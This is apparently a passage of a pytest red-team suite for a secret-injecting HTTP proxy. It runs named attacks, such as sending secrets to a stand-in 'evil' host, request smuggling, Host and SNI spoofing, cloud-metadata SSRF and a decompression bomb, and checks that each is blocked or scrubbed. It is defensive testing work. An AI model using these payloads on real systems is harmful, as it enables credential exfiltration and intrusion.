"""The red-team suite: named attacks, one table, one verdict.

Every attack runs against a real `sealgate run` with two mirror upstreams that send back
everything they receive: `api` (127.0.0.1, the secret's only allowed origin) and `evil`
(127.0.0.2). After each attack, the same three checks: the value never reached `evil`
(or any other non-allowed upstream), the worker never received it (the mirrors would have
sent it straight back), and it is in nothing an operator can see. Each attack may add what
it expects the worker to get (a refusal code, a scrubbed placeholder).

Attacks on the response side use an `api` that echoes the value back in one more way.
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import socket
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import brotli
import pytest

from conftest import curl
from upstream import H2Upstream, RawUpstream, header, raw_response
from wire import connect, credential_header, h2_request, one_request, read_all, read_until, tunnel

try:
    from compression import zstd
except ImportError:
    from backports import zstd


def mirror(head: bytes, body: bytes, sock) -> bytes:
    """Answer with the whole request, and its X-Key header, as a careless upstream might."""
    return raw_response(head + b"\r\n\r\n" + body, extra=b"X-Echo-Key: " + header(head, b"x-key") + b"\r\n")


@dataclass
class Scene:
    proxy: object
    session: dict
    ph: str
    value: str
    api: RawUpstream
    evil: RawUpstream
    pki: object
    extra: list  # other upstreams an attack started, all non-allowed unless it says so

    def via(self, up: RawUpstream, request: str | bytes, *, sni: str | None = None, target: str | None = None) -> bytes:
        """One request through a CONNECT tunnel to up (or to target); what the worker got back."""
        raw = request.encode() if isinstance(request, str) else request
        return read_all_from(tunnel(self.session, self.proxy.port, target or up.target, sni), raw)

    def plain(self, request: str | bytes) -> bytes:
        """One plain-http request to the proxy, with the session's credentials."""
        raw = request.encode() if isinstance(request, str) else request
        sock = socket.create_connection(("127.0.0.1", self.proxy.port), timeout=10)
        head, _, rest = raw.partition(b"\r\n")
        return read_all_from(sock, head + b"\r\n" + credential_header(self.session).encode() + rest)

    def allow(self, up: RawUpstream, origin: str | None = None) -> None:
        """Make up the secret's one allowed origin (or allow origin, naming up's host and port)."""
        self.proxy.cli("secret", "set-origins", "--user", self.session["principal"], "--name", "K",
                       "--origins", origin or up.origin)
        self.allowed = up

    def raw_upstream(self, answer, **kw) -> RawUpstream:
        up = RawUpstream(self.pki, answer, **kw)
        self.extra.append(up)
        return up


def read_all_from(sock, raw: bytes) -> bytes:
    sock.sendall(raw)
    out = read_all(sock, 3)
    sock.close()
    return out


def get(up: RawUpstream, path: str = "/", headers: str = "", host: str | None = None) -> str:
    return f"GET {path} HTTP/1.1\r\nHost: {host or up.target}\r\n{headers}Connection: close\r\n\r\n"


def post(up: RawUpstream, body: bytes, headers: str = "", path: str = "/") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: {up.target}\r\n{headers}Content-Length: {len(body)}\r\n"
            f"Connection: close\r\n\r\n").encode() + body


Attack = Callable[[Scene], tuple[bytes, bytes | None]]  # -> (what the worker got, what it must contain)
ATTACKS: dict[str, Attack] = {}


def attack(fn: Attack) -> Attack:
    ATTACKS[fn.__name__] = fn
    return fn


# --- carry the placeholder somewhere else ---------------------------------------------------------

@attack
def header_to_other_host(s):
    return s.via(s.evil, get(s.evil, headers=f"X-Key: {s.ph}\r\n")), b"origin_not_allowed"


@attack
def query_to_other_host(s):
    return s.via(s.evil, get(s.evil, f"/?k={s.ph}")), b"origin_not_allowed"


@attack
def json_body_to_other_host(s):
    return s.via(s.evil, post(s.evil, json.dumps({"k": s.ph}).encode(), "Content-Type: application/json\r\n")), \
        b"origin_not_allowed"


@attack
def form_body_to_other_host(s):
    return s.via(s.evil, post(s.evil, f"k={s.ph}".encode(), "Content-Type: application/x-www-form-urlencoded\r\n")), \
        b"origin_not_allowed"


@attack
def multipart_to_other_host(s):
    body = f'--b\r\nContent-Disposition: form-data; name="k"\r\n\r\n{s.ph}\r\n--b--\r\n'.encode()
    return s.via(s.evil, post(s.evil, body, "Content-Type: multipart/form-data; boundary=b\r\n")), \
        b"origin_not_allowed"


@attack
def basic_auth_to_other_host(s):
    token = base64.b64encode(f"me:{s.ph}".encode()).decode()
    return s.via(s.evil, get(s.evil, headers=f"Authorization: Basic {token}\r\n")), b"origin_not_allowed"


@attack
def cookie_to_other_host(s):
    return s.via(s.evil, get(s.evil, headers=f"Cookie: session={s.ph}\r\n")), b"origin_not_allowed"


@attack
def path_segment_to_other_host(s):
    return s.via(s.evil, get(s.evil, f"/keys/{s.ph}/x")), b"origin_not_allowed"


@attack
def gzip_body_to_other_host(s):
    return s.via(s.evil, post(s.evil, gzip.compress(f"k={s.ph}".encode()), "Content-Encoding: gzip\r\n")), \
        b"origin_not_allowed"


@attack
def brotli_body_to_other_host(s):
    return s.via(s.evil, post(s.evil, brotli.compress(f"k={s.ph}".encode()), "Content-Encoding: br\r\n")), \
        b"origin_not_allowed"


@attack
def zstd_in_gzip_body_to_other_host(s):
    body = gzip.compress(zstd.compress(f"k={s.ph}".encode()))
    return s.via(s.evil, post(s.evil, body, "Content-Encoding: zstd, gzip\r\n")), b"origin_not_allowed"


@attack
def chunked_streamed_body_to_other_host(s):
    t = tunnel(s.session, s.proxy.port, s.evil.target, None)
    t.sendall(f"POST / HTTP/1.1\r\nHost: {s.evil.target}\r\nTransfer-Encoding: chunked\r\n\r\n".encode())
    piece = f"k={s.ph}".encode()
    t.sendall(b"%x\r\n%s\r\n" % (len(piece), piece) + b"0\r\n\r\n")
    return read_all(t, 3), None


@attack
def other_port_same_host(s):
    other = s.raw_upstream(mirror)
    return s.via(other, get(other, headers=f"X-Key: {s.ph}\r\n")), b"origin_not_allowed"


@attack
def host_header_names_allowed_origin(s):
    return s.via(s.evil, get(s.evil, headers=f"X-Key: {s.ph}\r\n", host=s.api.target)), b"host_mismatch"


@attack
def host_header_names_other_host(s):
    return s.via(s.api, get(s.api, headers=f"X-Key: {s.ph}\r\n", host=s.evil.target)), b"host_mismatch"


@attack
def sni_names_another_host(s):
    return s.via(s.api, get(s.api, headers=f"X-Key: {s.ph}\r\n"), sni="localhost"), b"host_mismatch"


@attack
def duplicate_host_headers(s):
    req = f"GET / HTTP/1.1\r\nHost: {s.api.target}\r\nHost: {s.evil.target}\r\nX-Key: {s.ph}\r\nConnection: close\r\n\r\n"
    return s.via(s.api, req), b"host_mismatch"


@attack
def absolute_form_inside_other_tunnel(s):
    req = f"GET https://{s.api.target}/ HTTP/1.1\r\nHost: {s.api.target}\r\nX-Key: {s.ph}\r\nConnection: close\r\n\r\n"
    return s.via(s.evil, req), b"host_mismatch"


@attack
def plain_http_absolute_form_with_allowed_host_header(s):
    plain = s.raw_upstream(mirror, tls=False)
    req = f"GET http://{plain.target}/ HTTP/1.1\r\nHost: {s.api.target}\r\nX-Key: {s.ph}\r\nConnection: close\r\n\r\n"
    return s.plain(req), b"host_mismatch"


@attack
def plain_http_downgrade_to_allowed_host(s):
    plain = s.raw_upstream(mirror, tls=False)
    s.allow(plain, f"https://{plain.target}")
    req = f"GET http://{plain.target}/ HTTP/1.1\r\nHost: {plain.target}\r\nX-Key: {s.ph}\r\nConnection: close\r\n\r\n"
    return s.plain(req), b"insecure_upstream"


@attack
def ip_literal_decimal(s):
    return s.via(s.api, get(s.api, headers=f"X-Key: {s.ph}\r\n", host=f"2130706433:{s.api.port}"),
                 target=f"2130706433:{s.api.port}"), b"403"


@attack
def ip_literal_hex(s):
    return s.via(s.api, get(s.api, headers=f"X-Key: {s.ph}\r\n", host=f"0x7f000001:{s.api.port}"),
                 target=f"0x7f000001:{s.api.port}"), b"403"


@attack
def ipv4_mapped_ipv6(s):
    target = f"[::ffff:127.0.0.1]:{s.api.port}"
    return s.via(s.api, get(s.api, headers=f"X-Key: {s.ph}\r\n", host=target), target=target), b"403"


@attack
def mixed_case_and_trailing_dot_to_other_port(s):
    sock, out = connect(s.session, s.proxy.port, f"LocalHost.:{s.evil.port}")
    return out + read_all(sock, 2), b"X-Sealgate-Error"


@attack
def userinfo_naming_allowed_host(s):
    r = curl(s.session, f"https://{s.api.target}@{s.evil.target}/", "-H", f"X-Key: {s.ph}")
    assert r.status == 403
    return r.seen(), b"origin_not_allowed"


@attack
def redirect_followed_by_client(s):
    bouncer = s.raw_upstream(lambda head, body, sock: raw_response(
        b"", b"302 Found", b"Location: https://" + s.evil.target.encode() + b"/?k=" + header(head, b"x-key") + b"\r\n"))
    s.allow(bouncer)
    r = curl(s.session, bouncer.origin + "/", "-L", "-H", f"X-Key: {s.ph}")
    assert header(bouncer.received[0][0], b"x-key") == s.value.encode()
    assert r.headers["location"].endswith("?k=" + s.ph)  # the redirect itself came back scrubbed
    return r.seen(), b"origin_not_allowed"


@attack
def http2_authority_spoof(s):
    r = curl(s.session, f"https://{s.evil.target}/", "--http2", "-H", f"Host: {s.api.target}", "-H", f"X-Key: {s.ph}")
    return r.seen(), b"host_mismatch"


@attack
def websocket_message_to_other_host(s):
    t = tunnel(s.session, s.proxy.port, s.evil.target, None)
    t.sendall(f"GET /ws HTTP/1.1\r\nHost: {s.evil.target}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
              f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nX-Key: {s.ph}\r\n\r\n"
              .encode())
    return read_until(t, b"}", 3), b"origin_not_allowed"


# --- bend the request so the check misses it ------------------------------------------------------

@attack
def percent_encoded_placeholder(s):
    encoded = s.ph.replace(".", "%2E")
    return s.via(s.evil, get(s.evil, f"/?k={encoded}")), None


@attack
def placeholder_split_across_two_headers(s):
    half = len(s.ph) // 2
    return s.via(s.api, get(s.api, headers=f"X-A: {s.ph[:half]}\r\nX-B: {s.ph[half:]}\r\n")), None


@attack
def placeholder_in_header_name(s):
    return s.via(s.evil, get(s.evil, headers=f"{s.ph}: 1\r\n")), None


@attack
def obs_fold_header(s):
    return s.via(s.evil, get(s.evil, headers=f"X-Key: a\r\n {s.ph}\r\n")), None


@attack
def smuggle_content_length_and_chunked(s):
    body = b"0\r\n\r\n" + get(s.evil, headers=f"X-Key: {s.ph}\r\n").encode()
    req = (f"POST / HTTP/1.1\r\nHost: {s.evil.target}\r\nContent-Length: {len(body)}\r\nTransfer-Encoding: chunked"
           f"\r\n\r\n").encode() + body
    return s.via(s.evil, req), None


@attack
def smuggle_two_content_lengths(s):
    body = f"k={s.ph}".encode()
    req = (f"POST / HTTP/1.1\r\nHost: {s.evil.target}\r\nContent-Length: {len(body)}\r\nContent-Length: 3\r\n"
           f"Connection: close\r\n\r\n").encode() + body
    return s.via(s.evil, req), None


@attack
def pipelined_requests_in_one_tunnel(s):
    one = f"GET /1 HTTP/1.1\r\nHost: {s.evil.target}\r\nX-Key: {s.ph}\r\n\r\n"
    return s.via(s.evil, one + one.replace("/1", "/2") + get(s.evil, "/3", f"X-Key: {s.ph}\r\n")), \
        b"origin_not_allowed"


@attack
def unsupported_content_encoding(s):
    return s.via(s.api, post(s.api, base64.b64encode(f"k={s.ph}".encode()), "Content-Encoding: base64\r\n")), \
        b"unreadable_body"


@attack
def decompression_bomb(s):
    return s.via(s.api, post(s.api, gzip.compress(b"\0" * (128 << 20)), "Content-Encoding: gzip\r\n")), \
        b"unreadable_body"


@attack
def unicode_digit_port_in_host(s):
    req = f"GET / HTTP/1.1\r\nHost: {s.evil.host}:\u00b2\r\nX-Key: {s.ph}\r\nConnection: close\r\n\r\n".encode()
    return s.via(s.evil, req), b"host_mismatch"


# --- identity -------------------------------------------------------------------------------------

@attack
def placeholder_of_another_session(s):
    other = s.proxy.issue(user=s.session["principal"])
    return s.via(s.api, get(s.api, headers=f"X-Key: {other['env']['K']}\r\n")), b"unknown_placeholder"


@attack
def forged_placeholder_mac(s):
    forged = s.ph[:-6] + ("000000" if not s.ph.endswith("000000") else "111111")
    return s.via(s.api, get(s.api, headers=f"X-Key: {forged}\r\n")), b"unknown_placeholder"


@attack
def own_session_naming_other_users_secret(s):
    s.proxy.add_secret("victim-" + s.session["principal"], "VICTIM_KEY", s.value + "-v", s.api.origin)
    forged = s.session["env"]["RUNCHAT_ID"].replace(".RUNCHAT_ID.", ".VICTIM_KEY.")
    return s.via(s.api, get(s.api, headers=f"X-Key: {forged}\r\n")), b"unknown_placeholder"


@attack
def no_proxy_credentials(s):
    sock = socket.create_connection(("127.0.0.1", s.proxy.port), timeout=10)
    return read_all_from(sock, f"CONNECT {s.api.target} HTTP/1.1\r\nHost: {s.api.target}\r\n\r\n".encode()), b"407"


@attack
def forged_proxy_credentials(s):
    sid = s.session["proxy_url"].split("//")[1].split(":")[0]
    forged = base64.b64encode(f"{sid}:not-the-credential".encode()).decode()
    sock = socket.create_connection(("127.0.0.1", s.proxy.port), timeout=10)
    return read_all_from(sock, f"CONNECT {s.api.target} HTTP/1.1\r\nHost: {s.api.target}\r\n"
                               f"Proxy-Authorization: Basic {forged}\r\n\r\n".encode()), b"407"


@attack
def proxy_credential_sent_inside_tunnel(s):
    out = s.via(s.api, get(s.api, headers=credential_header(s.session)))
    assert header(s.api.received[-1][0], b"proxy-authorization") == b""
    return out, None


# --- egress ---------------------------------------------------------------------------------------

@attack
def private_address(s):
    sock, out = connect(s.session, s.proxy.port, "127.0.0.3:443")
    return out + read_all(sock, 2), b"destination_blocked"


@attack
def cloud_metadata_address(s):
    return s.plain(f"GET http://169.254.169.254/latest/meta-data/?k={s.ph} HTTP/1.1\r\nHost: 169.254.169.254\r\n"
                   f"Connection: close\r\n\r\n"), b"destination_blocked"


@attack
def proxy_own_port(s):
    sock, out = connect(s.session, s.proxy.port, f"127.0.0.1:{s.proxy.port}")
    return out + read_all(sock, 2), b"destination_blocked"


@attack
def unresolvable_host(s):
    sock, out = connect(s.session, s.proxy.port, "sealgate-test.invalid:443")
    return out + read_all(sock, 2), b"destination_unresolved"


@attack
def upstream_self_signed(s):
    bad = s.raw_upstream(mirror, cert=s.pki.issue("rt-self", ["127.0.0.1"], self_signed=True))
    s.allow(bad)
    return s.via(bad, get(bad, headers=f"X-Key: {s.ph}\r\n")), b"insecure_upstream"


@attack
def upstream_wrong_name(s):
    bad = s.raw_upstream(mirror, cert=s.pki.issue("rt-wrong", ["other.example"]))
    s.allow(bad)
    return s.via(bad, get(bad, headers=f"X-Key: {s.ph}\r\n")), b"insecure_upstream"


@attack
def upstream_expired(s):
    bad = s.raw_upstream(mirror, cert=s.pki.issue("rt-expired", ["127.0.0.1"], expired=True))
    s.allow(bad)
    return s.via(bad, get(bad, headers=f"X-Key: {s.ph}\r\n")), b"insecure_upstream"


# --- get the value back from the allowed origin ------------------------------------------------------

def _echo(s: Scene, make: Callable[[bytes], bytes], request: str | None = None) -> bytes:
    """Point the secret at an api that answers with make(value it received)."""
    up = s.raw_upstream(lambda head, body, sock: make(header(head, b"x-key")))
    s.allow(up)
    s.allowed = up
    return s.via(up, request or get(up, headers=f"X-Key: {s.ph}\r\n"))


@attack
def echo_in_whole_request_mirror(s):
    return s.via(s.api, get(s.api, f"/?k={s.ph}", f"X-Key: {s.ph}\r\n")), b"X-Echo-Key: " + s.ph.encode()


@attack
def echo_in_location_and_set_cookie(s):
    return _echo(s, lambda v: raw_response(b"", b"302 Found", b"Location: /next?k=" + v + b"\r\nSet-Cookie: k=" + v
                                           + b"\r\n")), s.ph.encode()


@attack
def echo_percent_encoded(s):
    from urllib.parse import quote
    return _echo(s, lambda v: raw_response(quote(v.decode(), safe="").encode())), None


@attack
def echo_json_escaped(s):
    return _echo(s, lambda v: raw_response(json.dumps({"k": v.decode()}).encode())), s.ph.encode()


@attack
def echo_gzip_body(s):
    return _echo(s, lambda v: raw_response(gzip.compress(b"k=" + v), extra=b"Content-Encoding: gzip\r\n")), None


@attack
def echo_deflate_body(s):
    return _echo(s, lambda v: raw_response(zlib.compress(b"k=" + v), extra=b"Content-Encoding: deflate\r\n")), None


@attack
def echo_brotli_body(s):
    return _echo(s, lambda v: raw_response(brotli.compress(b"k=" + v), extra=b"Content-Encoding: br\r\n")), None


@attack
def echo_zstd_body(s):
    return _echo(s, lambda v: raw_response(zstd.compress(b"k=" + v), extra=b"Content-Encoding: zstd\r\n")), None


@attack
def echo_with_undecodable_encoding(s):
    return _echo(s, lambda v: raw_response(b"k=" + v, extra=b"Content-Encoding: x-mystery\r\n")), \
        b"unscrubbable_response"


@attack
def echo_in_reason_phrase(s):
    return _echo(s, lambda v: b"HTTP/1.1 200 " + v + b"\r\nContent-Length: 0\r\n\r\n"), None


@attack
def echo_in_malformed_status_line(s):
    return _echo(s, lambda v: b"HTTP/1.1 2" + v + b" OK\r\nContent-Length: 0\r\n\r\n"), None


@attack
def echo_in_early_hints(s):
    """The informational response is dropped and the final one delivered (the client must not hang)."""
    return _echo(s, lambda v: b"HTTP/1.1 103 Early Hints\r\nLink: </k?" + v + b">\r\n\r\n" + raw_response(b"ok")), \
        b"HTTP/1.1 200 OK"


@attack
def echo_in_chunked_stream_split_everywhere(s):
    def answer(v: bytes) -> bytes:
        body = b"data: " + v + b"\n\n"
        return (b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n"
                + b"".join(b"1\r\n%s\r\n" % body[i:i + 1] for i in range(len(body))) + b"0\r\n\r\n")
    return _echo(s, answer), s.ph.encode()


@attack
def echo_of_proxy_reencoded_basic_header(s):
    up = s.raw_upstream(lambda head, body, sock: raw_response(header(head, b"authorization")))
    s.allow(up)
    token = base64.b64encode(f"me:{s.ph}".encode()).decode()
    out = s.via(up, get(up, headers=f"Authorization: Basic {token}\r\n"))
    filled = base64.b64encode(f"me:{s.value}".encode())
    assert filled not in out and header(up.received[0][0], b"authorization") == b"Basic " + filled
    return out, s.ph.encode()  # where the value's part of the base64 was


@attack
def echo_of_proxy_decoded_request_body(s):
    up = s.raw_upstream(lambda head, body, sock: raw_response(body))
    s.allow(up)
    return s.via(up, post(up, gzip.compress(f"k={s.ph}".encode()), "Content-Encoding: gzip\r\n")), \
        f"k={s.ph}".encode()


@attack
def stored_value_fetched_later_without_placeholder(s):
    stored: list[bytes] = []

    def answer(head, body, sock):
        if head.startswith(b"PUT"):
            stored.append(body)
            return raw_response(b"stored")
        return raw_response(b"note: " + b"".join(stored))
    up = s.raw_upstream(answer)
    s.allow(up)
    s.via(up, post(up, s.ph.encode(), path="/note").replace(b"POST", b"PUT", 1))
    assert stored == [s.value.encode()]
    return s.via(up, get(up, "/note")), b"note: " + s.ph.encode()


@attack
def echo_in_response_header_name(s):
    return _echo(s, lambda v: raw_response(b"ok", extra=b"X-" + v + b": 1\r\n")), None


@attack
def stored_value_read_by_another_session(s):
    stored: list[bytes] = []

    def answer(head, body, sock):
        if head.startswith(b"PUT"):
            stored.append(body)
        return raw_response(b"note: " + b"".join(stored))
    up = s.raw_upstream(answer)
    s.allow(up)
    s.via(up, post(up, s.ph.encode(), path="/note").replace(b"POST", b"PUT", 1))
    assert stored == [s.value.encode()]
    later = s.proxy.issue(user=s.session["principal"])  # a new run of the same user, no placeholder sent
    s.session = later
    return s.via(up, get(up, "/note")), b"note: " + later["env"]["K"].encode()


@attack
def echo_in_websocket_frame(s):
    import hashlib

    def answer(head, body, sock):
        accept = base64.b64encode(hashlib.sha1(header(head, b"sec-websocket-key")
                                               + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
        payload = b"you sent " + header(head, b"x-key")
        sock.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                     b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n" + bytes([0x81, len(payload)]) + payload)
        time.sleep(0.4)  # the socket stays open while the frames reach the worker
    up = s.raw_upstream(answer)
    s.allow(up)
    out = s.via(up, f"GET /ws HTTP/1.1\r\nHost: {up.target}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                    f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nX-Key: {s.ph}\r\n\r\n")
    return out, b"you sent " + s.ph.encode()


@attack
def echo_after_other_upgrade_as_raw_tcp(s):
    def answer(head, body, sock):
        sock.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: foo\r\nConnection: Upgrade\r\n\r\nraw: "
                     + header(head, b"x-key"))
        time.sleep(0.4)  # the socket stays open while the frames reach the worker
    up = s.raw_upstream(answer)
    s.allow(up)
    return s.via(up, get(up, headers=f"Upgrade: foo\r\nX-Key: {s.ph}\r\n")), None


def _ws_accept(head: bytes) -> bytes:
    import hashlib
    accept = base64.b64encode(hashlib.sha1(header(head, b"sec-websocket-key")
                                           + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
    return (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")


WS_UPGRADE = ("Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
              "Sec-WebSocket-Version: 13\r\n")


def _ws_control_echo(s: Scene, frames, *, plain: bool = False) -> bytes:
    def answer(head, body, sock):
        sock.sendall(_ws_accept(head))
        for f in frames(header(head, b"x-key")):
            sock.sendall(f)
            time.sleep(0.2)
        time.sleep(0.4)  # the socket stays open while the frames reach the worker
    up = s.raw_upstream(answer, tls=not plain)
    if plain:  # ws:// through the proxy in absolute form: no CONNECT tunnel
        s.proxy.cli("secret", "set-origins", "--user", s.session["principal"], "--name", "K", "--allow-http",
                    "--origins", f"http://{up.target}")
        s.allowed = up
        return s.plain(f"GET http://{up.target}/ws HTTP/1.1\r\nHost: {up.target}\r\n{WS_UPGRADE}X-Key: {s.ph}\r\n\r\n")
    s.allow(up)
    return s.via(up, f"GET /ws HTTP/1.1\r\nHost: {up.target}\r\n{WS_UPGRADE}X-Key: {s.ph}\r\n\r\n")


def _frame(opcode: int, payload: bytes) -> bytes:
    return bytes([0x80 | opcode, len(payload)]) + payload


@attack
def echo_in_websocket_close_reason(s):
    return _ws_control_echo(s, lambda v: [_frame(0x8, b"\x03\xe8r:" + v)]), None


@attack
def echo_in_websocket_ping_and_pong(s):
    return _ws_control_echo(s, lambda v: [_frame(0x9, b"p:" + v), _frame(0xA, b"q:" + v)]), None


@attack
def echo_in_websocket_ping_pong_and_close_over_plain_ws(s):
    return _ws_control_echo(s, lambda v: [_frame(0x9, b"p:" + v), _frame(0xA, b"q:" + v),
                                          _frame(0x8, b"\x03\xe8r:" + v)], plain=True), None


@attack
def websocket_opened_before_the_secret_was_added(s):
    """A socket open before K existed must still have K's value scrubbed from what comes back."""
    import threading
    added = threading.Event()

    def answer(head, body, sock):
        sock.sendall(_ws_accept(head))
        added.wait(10)
        sock.sendall(_frame(0x1, b"stored: " + s.value.encode()))
        time.sleep(0.4)  # the socket stays open while the frames reach the worker
    up = s.raw_upstream(answer)
    s.proxy.cli("secret", "rm", "--user", s.session["principal"], "--name", "K")
    s.proxy.add_secret(s.session["principal"], "OTHER", s.value + "-other", up.origin)
    s.allowed = up
    sock = tunnel(s.session, s.proxy.port, up.target, None)
    sock.sendall(f"GET /ws HTTP/1.1\r\nHost: {up.target}\r\n{WS_UPGRADE}\r\n".encode())
    head = sock.recv(4096)
    s.proxy.add_secret(s.session["principal"], "K", s.value, up.origin)
    added.set()
    out = head + read_all(sock, 3)
    sock.close()
    return out, b"stored: sg."


@attack
def echo_split_by_empty_http2_data_frame(s):
    def answer(h, body, conn, sid, sock):
        msg = b"data: echo " + h[b"x-key"] + b"\n\n"
        conn.send_headers(sid, [(b":status", b"200"), (b"content-type", b"text/event-stream")])
        parts = (msg[:20], b"", msg[20:])  # an empty DATA frame cuts the value
        for i, part in enumerate(parts):
            conn.send_data(sid, part, end_stream=i == len(parts) - 1)
            sock.sendall(conn.data_to_send())
            time.sleep(0.2)
    up = H2Upstream(s.pki, answer)
    s.extra.append(up)
    s.allow(up)
    r = curl(s.session, up.origin + "/sse", "--http2", "-H", f"X-Key: {s.ph}")
    return r.seen(), b"data: echo " + s.ph.encode()


@attack
def echo_in_http2_response_trailers(s):
    def answer(h, body, conn, sid, sock):
        conn.send_headers(sid, [(b":status", b"200"), (b"content-type", b"text/plain")])
        conn.send_data(sid, b"ok")
        conn.send_headers(sid, [(b"x-trailer", b"k=" + h[b"x-key"])], end_stream=True)
    up = H2Upstream(s.pki, answer)
    s.extra.append(up)
    s.allow(up)
    return h2_request(s.session, s.proxy.port, up.target, [(b"x-key", s.ph.encode())]), b"k=" + s.ph.encode()


def _h2_ok(h, body, conn, sid, sock):
    conn.send_headers(sid, [(b":status", b"200"), (b"content-length", b"2")])
    conn.send_data(sid, b"ok", end_stream=True)


@attack
def placeholder_in_http2_request_trailers_to_other_host(s):
    evil = H2Upstream(s.pki, _h2_ok, host="127.0.0.2")
    s.extra.append(evil)
    out = h2_request(s.session, s.proxy.port, evil.target, [(b"te", b"trailers")], body_parts=(b"hello",),
                     trailers=[(b"x-key", s.ph.encode())], method=b"POST")
    assert not any(s.ph.encode() in repr(t).encode() for _, _, t in evil.received)
    return out, None


@attack
def placeholder_in_trailers_of_streamed_http2_body_to_other_host(s):
    evil = H2Upstream(s.pki, _h2_ok, host="127.0.0.2")
    s.extra.append(evil)
    body = os.urandom(2 << 20).replace(b"sg.", b"xx.")
    out = h2_request(s.session, s.proxy.port, evil.target,
                     [(b"content-length", str(len(body)).encode()), (b"te", b"trailers")],
                     body_parts=(body,), trailers=[(b"x-key", s.ph.encode())], method=b"POST")
    assert not any(s.ph.encode() in repr(t).encode() for _, _, t in evil.received)
    return out, None


@attack
def placeholder_split_by_empty_http2_data_frame_to_other_host(s):
    evil = H2Upstream(s.pki, _h2_ok, host="127.0.0.2")
    s.extra.append(evil)
    body = os.urandom(2 << 20).replace(b"sg.", b"xx.") + b"key=" + s.ph.encode()
    cut = len(body) - 30
    out = h2_request(s.session, s.proxy.port, evil.target, [(b"content-length", str(len(body)).encode())],
                     body_parts=(body[:cut], b"", body[cut:]), method=b"POST")
    assert all(s.ph.encode() not in b for _, b, _ in evil.received)
    return out, None


@attack
def secret_added_after_the_reading_session_started(s):
    stored: list[bytes] = []

    def answer(head, body, sock):
        if head.startswith(b"PUT"):
            stored.append(body)
        return raw_response(b"note: " + b"".join(stored))
    up = s.raw_upstream(answer)
    s.proxy.cli("secret", "rm", "--user", s.session["principal"], "--name", "K")
    s.proxy.add_secret(s.session["principal"], "OLD", s.value + "-old", up.origin)
    reader = s.session
    s.via(up, get(up, "/warmup"))  # the reader's scrubber is made now, before K exists
    s.proxy.add_secret(s.session["principal"], "K", s.value, up.origin)
    s.allowed = up
    s.session = s.proxy.issue(user=s.session["principal"])  # another run stores K at the allowed origin
    s.via(up, post(up, s.session["env"]["K"].encode(), path="/note").replace(b"POST", b"PUT", 1))
    assert stored == [s.value.encode()]
    s.session = reader
    reader_id = reader["proxy_url"].split("//")[1].split(":")[0]
    return s.via(up, get(up, "/note")), f"note: sg.{reader_id}.K.".encode()


# --- second pass: checked in one form, forwarded in another -----------------------------------------

def _decoded(out: bytes) -> bytes:
    """What a client would make of a response body: every gzip/deflate/zstd member it can find, decoded."""
    _, _, body = out.partition(b"\r\n\r\n")
    seen = [out]
    for start in range(len(body)):
        for decode in (lambda b: zlib.decompressobj(16 + zlib.MAX_WBITS).decompress(b),
                       lambda b: zlib.decompressobj().decompress(b), lambda b: zstd.decompress(b)):
            try:
                seen.append(decode(body[start:]))
            except Exception:
                pass
    return b"\n".join(seen)


@attack
def echo_under_transfer_encoding_gzip(s):
    def answer(v: bytes) -> bytes:
        data = gzip.compress(b"k=" + v)
        return (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"
                + b"%x\r\n" % len(data) + data + b"\r\n0\r\n\r\n")
    return _decoded(_echo(s, answer)), b"unscrubbable_response"


@attack
def echo_after_the_end_of_a_deflate_stream(s):
    return _decoded(_echo(s, lambda v: raw_response(zlib.compress(b"ok") + b"k=" + v,
                                                    extra=b"Content-Encoding: deflate\r\n"))), b"unscrubbable_response"


@attack
def echo_in_a_second_zstd_frame(s):
    return _decoded(_echo(s, lambda v: raw_response(zstd.compress(b"ok ") + zstd.compress(b"k=" + v),
                                                    extra=b"Content-Encoding: zstd\r\n"))), b"ok k=" + s.ph.encode()


@attack
def echo_in_the_gzip_file_name(s):
    def answer(v: bytes) -> bytes:
        plain = gzip.compress(b"ok")
        named = plain[:3] + bytes([plain[3] | 0x08]) + plain[4:10] + v + b"\0" + plain[10:]  # FNAME set
        return raw_response(named, extra=b"Content-Encoding: gzip\r\n")
    out = _echo(s, answer)
    return out, b"\r\n\r\nok"


@attack
def placeholder_in_path_of_a_streamed_body(s):
    """The audit row of a request whose head is filled before its body streams is built from the
    placeholder form: no value in the store, its WAL, or `sealgate audit --json`."""
    body = f"k={s.ph}".encode()
    out = s.via(s.api, f"POST /bot{s.ph}/send HTTP/1.1\r\nHost: {s.api.target}\r\nTransfer-Encoding: chunked\r\n"
                       f"Connection: close\r\n\r\n{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n")
    audit = s.proxy.cli("audit", "--json").stdout.encode()
    leaked = s.value.encode() in audit  # (a bool: a failing assert must not print the value)
    assert not leaked, "the value is in the audit trail"
    return out + audit, f"/bot{s.ph}/send".encode()


@attack
def range_requests_reassemble_a_stored_value(s):
    return _slices_of_a_stored_value(s, "Range"), None


def _slices_of_a_stored_value(s: Scene, header_name: str) -> bytes:
    """Store the value at an origin that honours header_name, then ask for it in 6-byte slices; what the
    worker got, the slices' bodies joined last (they must not make up the value)."""
    stored: list[bytes] = []

    def answer(head, body, sock):
        if head.startswith(b"PUT"):
            stored.append(body)
            return raw_response(b"stored")
        data, rng = b"".join(stored), header(head, header_name.lower().encode())
        if rng.startswith(b"bytes="):
            a, _, b = rng[6:].partition(b"-")
